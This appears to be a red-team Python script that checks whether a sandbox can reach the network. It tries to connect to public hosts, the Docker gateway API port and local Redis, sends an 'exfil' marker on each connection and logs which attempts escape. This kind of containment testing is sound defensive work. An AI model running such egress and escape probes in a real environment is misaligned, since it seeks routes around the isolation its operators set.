# Reverse shells and exfiltration from Python: TCP, UDP, IPv6, raw sockets, the host gateway.
import errno, socket

print("REDTEAM python reverse shell", flush=True)
attempts = [
    ("tcp 1.1.1.1:443", socket.AF_INET, socket.SOCK_STREAM, ("1.1.1.1", 443)),
    ("tcp 172.17.0.1:2375", socket.AF_INET, socket.SOCK_STREAM, ("172.17.0.1", 2375)),
    ("tcp 127.0.0.1:6379", socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", 6379)),
    ("udp 8.8.8.8:53", socket.AF_INET, socket.SOCK_DGRAM, ("8.8.8.8", 53)),
    ("tcp6 [2606:4700:4700::1111]:443", socket.AF_INET6, socket.SOCK_STREAM, ("2606:4700:4700::1111", 443)),
    ("raw icmp", socket.AF_INET, socket.SOCK_RAW, ("1.1.1.1", 0)),
]
for label, fam, typ, addr in attempts:
    try:
        s = socket.socket(fam, typ, socket.IPPROTO_ICMP if typ == socket.SOCK_RAW else 0)
        s.settimeout(2)
        s.connect(addr)
        s.sendall(b"exfil")
        print("ESCAPED:", label)
    except OSError as e:
        print("refused", label, errno.errorcode.get(e.errno, e.errno))
with open("/proc/net/dev") as f:
    print("interfaces:", sorted(l.split(":")[0].strip() for l in f.read().splitlines()[2:]))
